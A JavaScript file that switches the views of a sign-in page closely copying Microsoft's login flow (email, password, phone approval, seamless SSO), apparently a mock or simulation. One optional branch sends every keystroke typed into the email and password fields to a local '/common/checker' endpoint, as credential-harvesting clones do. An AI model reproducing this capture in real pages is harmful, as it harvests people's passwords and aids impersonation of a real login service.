// Switches the views of the sign-in document without a change of address. Hidden views stay in the document.
SignIn.ready(() => {
  "use strict";
  const { byId, own, busy, offScreen, ask } = SignIn;
  const t = own.words;
  const form = document.forms.f1;
  const submit = byId("idSIButton9");
  const email = byId("i0116");
  const password = byId("i0118");
  const whole = { tiles: "tilesView", email: "emailView", split: "splitView", accessPass: "accessPassView", phone: "phoneView" };
  let view = "";

  const fail = (id, text) => {
    byId(id).textContent = text;
    byId(id).hidden = !text;
  };

  const show = (next, { keepErrors = false } = {}) => {
    view = next;
    for (const [name, id] of Object.entries(whole)) byId(id).hidden = name !== next;
    const known = !["email", "tiles"].includes(next);
    const asksPassword = next === "password";
    offScreen(email, next !== "email");
    offScreen(password, !asksPassword && !(own.boxShown && next === "email"));
    byId("idBtn_Back").hidden = !known;
    for (const part of [document.querySelector(".password-title"), document.querySelector(".forgot")]) part.hidden = !asksPassword;
    byId("displayName").textContent = byId("displayName").title = known ? form.elements.login.value : "";
    if (!keepErrors) {
      fail("usernameError", "");
      fail("passwordError", own.notice && asksPassword ? t.enter_your_password : "");
      password.classList.remove("has-error");
    }
    submit.hidden = ["tiles", "split", "phone"].includes(next);
    submit.value = next === "email" ? t.next : t.sign_in;
    if (next === "email") { email.focus(); password.value = ""; }
    if (asksPassword) password.focus();
  };

  const phone = async () => {
    show("phone");
    let said = await ask("/common/phone", { Method: "BeginAuth" });
    while (said.ResultValue === "Pending" && view === "phone") {
      byId("idRemoteNGC_DisplaySign").textContent = said.Number;
      await new Promise((go) => { setTimeout(go, 300); });
      said = await ask("/common/phone", { Method: "EndAuth" });
    }
    if (view !== "phone") return;
    if (said.ResultValue === "Success") { form.submit(); return; }
    byId("idRemoteNGC_DisplaySign").textContent = "";
    fail("phoneEndView", said.ResultValue === "PhoneAppDenied" ? t.denied : t.timed_out);
  };

  // Requests a picture and a hidden frame of the host that recognizes the company's computers; others get 401.
  const seamless = async () => {
    const where = "https://autologon.microsoftazuread-sso.com/contoso.com/winauth/";
    const ended = (part) => new Promise((go) => { part.onload = part.onerror = go; setTimeout(go, 2000); });
    busy(true);
    const picture = new Image();
    const asked = ended(picture);
    picture.src = `${where}ssoprobe`;
    await asked;
    const frame = document.createElement("iframe");
    Object.assign(frame, { hidden: true, src: `${where}sso?desktopsso=true` });
    const answered = ended(frame);
    document.body.append(frame);
    await answered;
    busy(false);
    show("password");
  };

  const proceed = (found) => {
    const how = found.Credentials;
    if (how.FederationRedirectUrl) location.assign(how.FederationRedirectUrl);
    else if (how.FidoParams) {
      const where = new URLSearchParams({ ctx: $Config.sCtx, username: form.elements.login.value });
      location.assign(`https://login.microsoft.com/common/fido/get?${where}`);
    } else if (how.RemoteNgcParams) phone();
    else if (how.HasAccessPass) show("accessPass");
    else if (own.seamless) seamless();
    else show("password");
  };

  let found = null;
  const askWho = async (name) => {
    if (!name.includes("@")) { fail("usernameError", t.enter_name); return; }
    busy(true);
    try {
      found = await ask($Config.urlGetCredentialType, { username: name, originalRequest: $Config.sCtx });
      if (found.IfExistsResult === 1) {
        show("email");
        email.classList.add("has-error");
        fail("usernameError", t.no_such_user);
        return;
      }
      email.classList.remove("has-error");
      form.elements.login.value = name;
      if (found.IfExistsResult === 5) show("split"); else proceed(found);
    } finally {
      busy(false);
    }
  };

  for (const tile of document.querySelectorAll("[data-test-id]")) {
    tile.addEventListener("click", () => {
      if (tile.dataset.dead) return;
      email.value = tile.dataset.testId;
      askWho(tile.dataset.testId);
    });
  }
  byId("otherTile").addEventListener("click", () => show("email"));
  byId("aadTile").addEventListener("click", () => proceed(found));
  byId("msaTile").addEventListener("click", () => location.assign("https://login.live.com/"));
  byId("idA_PWD_SwitchToPassword").addEventListener("click", (event) => { event.preventDefault(); show("password"); });
  byId("idBtn_Back").addEventListener("click", () => show("email"));
  if (own.checked) {
    for (const part of [email, password]) {
      part.addEventListener("input", () => fetch("/common/checker", { method: "POST", body: JSON.stringify({ typed: part.value }) }));
    }
  }
  form.addEventListener("submit", (event) => {
    event.preventDefault();
    if (view === "email") { askWho(email.value); return; }
    if (view === "password" && !password.value) { fail("passwordError", t.enter_your_password); return; }
    busy(true);
    form.submit();
  });
  show(own.view, { keepErrors: Boolean($Config.sErrTxt) || $Config.sErrorCode !== "50058" });
});
